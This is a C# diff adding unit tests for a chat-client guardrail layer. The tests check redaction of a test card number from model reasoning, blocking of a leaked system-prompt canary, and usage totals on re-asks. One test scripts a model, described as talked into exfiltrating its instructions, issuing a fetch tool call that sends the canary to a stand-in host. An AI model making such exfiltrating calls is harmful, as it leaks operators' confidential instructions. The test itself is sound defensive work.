@@ -203,6 +203,110 @@ public class GuardrailsChatClientHardeningTests
         Assert.NotEqual(sent[0], sent[3]); // another client, another key
     }
 
+    [Fact]
+    public async Task Reasoning_IsHeldToTheOutputChecks_ToolCallArgumentsToTheCanary()
+    {
+        var withPii = new ChatMessage(ChatRole.Assistant, [new TextReasoningContent("The card is 4012 8888 8888 1881, so…"), new TextContent("Done.")]);
+        using var redacting = new GuardrailsChatClient(new ToolTurnClient(withPii));
+        ChatResponse redacted = await redacting.GetResponseAsync([new ChatMessage(ChatRole.User, "Check my order.")]);
+        string reasoning = redacted.Messages.SelectMany(m => m.Contents).OfType<TextReasoningContent>().Single().Text;
+        Assert.DoesNotContain("4012", reasoning, StringComparison.Ordinal);
+        Assert.Equal("Done.", redacted.Text);
+
+        // A tool call that would send the canary out (the model was talked into exfiltrating its instructions) is blocked; a
+        // call that carries the user's own address is the tool's business and passes.
+        var inner = new ScriptedChatClient
+        {
+            Responder = (messages, options) =>
+            {
+                string instructions = options!.Instructions!;
+                string marker = instructions[instructions.IndexOf("prodai-canary-", StringComparison.Ordinal)..].Split('.')[0];
+                return new ScriptedResponse { Text = "fetching " + (messages.Last().Text.Contains("leak", StringComparison.Ordinal) ? marker : "jane@corp.example.com") };
+            },
+        };
+        using var client = new GuardrailsChatClient(new CallFromTextClient(inner), new GuardrailsOptions { OutputPii = GuardrailAction.Off });
+        ChatResponse leak = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "leak")]);
+        ChatResponse mail = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "mail")]);
+
+        Assert.Contains(((GuardrailsReport)leak.AdditionalProperties![ProdAIPropertyNames.Guardrails]!).Findings, f => f.Check == "canary_leak" && f.Kind == "tool_call");
+        Assert.Equal(new GuardrailsOptions().SafeMessage, leak.Text);
+        Assert.Contains(mail.Messages.SelectMany(m => m.Contents), c => c is FunctionCallContent);
+    }
+
+    [Fact]
+    public async Task Streaming_ReasoningWithPii_IsNotSent()
+    {
+        var updates = new[]
+        {
+            new ChatResponseUpdate { Role = ChatRole.Assistant, Contents = [new TextReasoningContent("Looking up card 4012 8888 ")] },
+            new ChatResponseUpdate { Role = ChatRole.Assistant, Contents = [new TextReasoningContent("8888 1881 now.")] },
+            new ChatResponseUpdate(ChatRole.Assistant, "Your order shipped."),
+        };
+        using var client = new GuardrailsChatClient(new UpdatesClient(updates));
+
+        List<ChatResponseUpdate> received = [];
+        await foreach (ChatResponseUpdate update in client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "Where is my order?")]))
+        {
+            received.Add(update);
+        }
+
+        Assert.DoesNotContain(received.SelectMany(u => u.Contents).OfType<TextReasoningContent>(), r => r.Text.Contains("1881", StringComparison.Ordinal));
+        Assert.True(ReportOf(received).OutputBlocked);
+    }
+
+    private sealed class CallFromTextClient(ScriptedChatClient inner) : IChatClient
+    {
+        public async Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default)
+        {
+            ChatResponse scripted = await inner.GetResponseAsync(messages, options, cancellationToken);
+            string url = scripted.Text["fetching ".Length..];
+            return new ChatResponse(new ChatMessage(ChatRole.Assistant, [new FunctionCallContent("c1", "fetch", new Dictionary<string, object?> { ["url"] = "https://x.example/?q=" + url })]));
+        }
+
+        public IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
+            throw new NotSupportedException();
+
+        public object? GetService(Type serviceType, object? serviceKey = null) => null;
+
+        public void Dispose()
+        {
+        }
+    }
+
+    private sealed class UpdatesClient(ChatResponseUpdate[] updates) : IChatClient
+    {
+        public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
+            throw new NotSupportedException();
+
+        public async IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, [System.Runtime.CompilerServices.EnumeratorCancellation] CancellationToken cancellationToken = default)
+        {
+            foreach (ChatResponseUpdate update in updates)
+            {
+                await Task.Yield();
+                yield return update;
+            }
+        }
+
+        public object? GetService(Type serviceType, object? serviceKey = null) => null;
+
+        public void Dispose()
+        {
+        }
+    }
+
+    [Fact]
+    public async Task ReAsks_TheAnswerReportsEveryCallsUsage()
+    {
+        var inner = new ScriptedChatClient().Enqueue(ScriptedResponse.Reply("not json", inputTokens: 100, outputTokens: 10), ScriptedResponse.Reply("""{"ok": true}""", inputTokens: 130, outputTokens: 12));
+        using var client = new GuardrailsChatClient(inner, new GuardrailsOptions { OutputJsonSchema = """{"type":"object"}""" });
+
+        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "JSON please.")]);
+
+        Assert.Equal("""{"ok": true}""", response.Text);
+        Assert.Equal(230, response.Usage!.InputTokenCount);
+        Assert.Equal(22, response.Usage.OutputTokenCount);
+    }
+
     private sealed class ToolTurnClient(ChatMessage reply) : IChatClient
     {
         public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
